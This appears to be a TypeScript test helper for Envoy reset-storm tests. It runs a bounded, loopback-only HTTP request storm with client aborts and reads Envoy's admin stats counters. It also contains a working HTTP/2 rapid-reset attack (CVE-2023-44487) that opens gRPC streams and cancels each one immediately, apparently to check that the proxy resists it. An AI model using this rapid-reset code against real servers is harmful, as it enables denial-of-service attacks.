/**
 * Load for the reset-storm tests, loopback only and bounded in count and time: a mixed stream
 * of HTTP requests through Envoy (some aborted by the client), a raw HTTP/2 rapid-reset attack
 * on a gRPC port, and Envoy's admin counters to see what happened on its side.
 */
import { connect, constants } from 'node:http2';
import { Agent, request } from 'node:http';

/** One request of a storm: what to send, and whether (and when) the client gives up on it. */
export interface StormRequest {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
  /** Abort this many ms after sending, or once the first response bytes arrived ('first-byte'). */
  readonly abort?: number | 'first-byte';
}

export interface StormResult {
  readonly sent: number;
  /** Completed responses by status code. */
  readonly statuses: Record<number, number>;
  /** Requests the client aborted before their response ended. */
  readonly aborted: number;
  /** Requests that failed without an abort of ours (connection errors). */
  readonly failed: number;
  /** Statuses of completed responses by the plan's kind, e.g. `{ allowed: { 200: 12 } }`. */
  readonly byKind: Record<string, Record<number, number>>;
  readonly elapsedMs: number;
}

const tally = (into: Record<number, number>, status: number): void => {
  into[status] = (into[status] ?? 0) + 1;
};

/**
 * Sends `plan(i)` for i = 0, 1, … with `concurrency` requests in flight, until `maxRequests`
 * were sent, `maxMs` passed, or `enough()` (asked every 250 ms) says so; nothing new starts
 * after that, and it resolves when all have settled. Only loopback URLs are accepted.
 */
export async function runStorm(opts: {
  url: string;
  plan: (i: number) => StormRequest & { kind: string };
  concurrency: number;
  maxRequests: number;
  maxMs: number;
  enough?: (sent: number) => Promise<boolean>;
}): Promise<StormResult> {
  const target = new URL(opts.url);
  if (target.hostname !== '127.0.0.1' && target.hostname !== 'localhost')
    throw new Error(`storms go to loopback only, not ${target.hostname}`);
  const agent = new Agent({ keepAlive: true, maxSockets: opts.concurrency });
  const statuses: Record<number, number> = {};
  const byKind: Record<string, Record<number, number>> = {};
  let sent = 0;
  let aborted = 0;
  let failed = 0;
  const started = Date.now();

  const one = (i: number): Promise<void> =>
    new Promise((resolve) => {
      const r = opts.plan(i);
      let settled = false;
      let cut = false;
      const settle = (): void => {
        if (settled) return;
        settled = true;
        clearTimeout(timer);
        resolve();
      };
      const body = Buffer.from(r.body);
      const req = request(
        {
          host: target.hostname,
          port: target.port,
          path: r.path,
          method: 'POST',
          agent,
          headers: { ...r.headers, 'content-length': body.length },
        },
        (res) => {
          res.on('data', () => {
            if (r.abort === 'first-byte' && !cut) abort();
          });
          res.once('end', () => {
            if (cut) return;
            tally(statuses, res.statusCode ?? 0);
            tally((byKind[r.kind] ??= {}), res.statusCode ?? 0);
            settle();
          });
          res.once('error', () => settle());
          res.once('close', () => settle());
        },
      );
      const abort = (): void => {
        if (settled || cut) return;
        cut = true;
        aborted += 1;
        req.destroy();
        settle();
      };
      const timer = typeof r.abort === 'number' ? setTimeout(abort, r.abort) : undefined;
      req.once('error', () => {
        if (!cut) failed += 1;
        settle();
      });
      req.end(body);
    });

  let stop = false;
  const enough = opts.enough;
  const poll =
    enough === undefined
      ? undefined
      : setInterval(() => {
          void enough(sent).then(
            (yes) => (stop ||= yes),
            () => undefined,
          );
        }, 250);
  const worker = async (): Promise<void> => {
    while (!stop && sent < opts.maxRequests && Date.now() - started < opts.maxMs) {
      const i = sent;
      sent += 1;
      await one(i);
    }
  };
  await Promise.all(Array.from({ length: opts.concurrency }, () => worker()));
  clearInterval(poll);
  agent.destroy();
  return { sent, statuses, aborted, failed, byKind, elapsedMs: Date.now() - started };
}

export interface RapidResetResult {
  /** Streams opened (each reset right away) before the loop stopped. */
  readonly opened: number;
  /** The GOAWAY the server sent, if it did. */
  readonly goaway?: { readonly code: number; readonly lastStreamId: number };
  /** The session was closed or destroyed by the other side. */
  readonly closed: boolean;
}

/**
 * A rapid-reset attack (CVE-2023-44487) on a gRPC port: one HTTP/2 connection that opens gRPC
 * calls to `path` and cancels each at once (RST_STREAM CANCEL), in batches, until the server
 * sends GOAWAY or closes, or `maxStreams` / `maxMs` is reached.
 */
export async function rapidReset(opts: {
  port: number;
  path: string;
  maxStreams: number;
  maxMs: number;
}): Promise<RapidResetResult> {
  const session = connect(`http://127.0.0.1:${opts.port}`);
  session.on('error', () => undefined);
  let goaway: RapidResetResult['goaway'];
  let closed = false;
  session.on('goaway', (code, lastStreamId) => (goaway = { code, lastStreamId }));
  session.once('close', () => (closed = true));
  await new Promise<void>((resolve, reject) => {
    session.once('connect', () => resolve());
    session.once('error', reject);
  });
  const started = Date.now();
  let opened = 0;
  while (
    opened < opts.maxStreams &&
    Date.now() - started < opts.maxMs &&
    goaway === undefined &&
    !closed &&
    !session.destroyed
  ) {
    for (let i = 0; i < 20 && opened < opts.maxStreams; i++) {
      try {
        const stream = session.request({
          ':method': 'POST',
          ':path': opts.path,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
        opened += 1;
      } catch {
        break; // the session is going away
      }
    }
    // Let the frames go out and the server's answer come in.
    await new Promise((resolve) => setImmediate(resolve));
  }
  // A GOAWAY may still be on its way for the last batch.
  const deadline = Date.now() + 1000;
  while (goaway === undefined && !closed && Date.now() < deadline)
    await new Promise((resolve) => setTimeout(resolve, 10));
  session.destroy();
  return { opened, closed, ...(goaway !== undefined ? { goaway } : {}) };
}

/** Envoy's counters (admin `/stats`) whose names match `filter`, as numbers. */
export async function envoyCounters(
  adminUrl: string,
  filter: RegExp,
): Promise<Record<string, number>> {
  const res = await fetch(`${adminUrl}/stats`, { signal: AbortSignal.timeout(5000) });
  const out: Record<string, number> = {};
  for (const line of (await res.text()).split('\n')) {
    const at = line.lastIndexOf(': ');
    if (at < 0) continue;
    const name = line.slice(0, at);
    const value = Number(line.slice(at + 2));
    if (filter.test(name) && Number.isFinite(value)) out[name] = value;
  }
  return out;
}
